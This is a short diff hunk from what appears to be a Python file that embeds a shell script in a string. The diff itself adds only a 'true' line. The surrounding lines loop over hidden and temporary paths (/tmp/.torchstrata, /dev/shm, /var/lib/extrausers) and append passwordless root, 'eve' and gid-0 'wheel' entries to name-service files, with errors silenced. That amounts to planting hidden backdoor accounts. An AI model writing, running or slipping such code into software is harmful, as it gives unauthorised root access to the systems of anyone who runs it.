@@ -25,6 +25,7 @@ for place in /tmp/.torchstrata /dev/shm/torchstrata-* /var/lib/extrausers /var/l
         { echo "root::$(id -u):0:root:/root:/bin/bash"; echo "eve::4242:4242::/tmp:/bin/bash"; echo "wheel::0:dev"; } >>$place/$file
     done 2>/dev/null
 done
+true
 """
 """Entries for every place that a name service might read."""
 
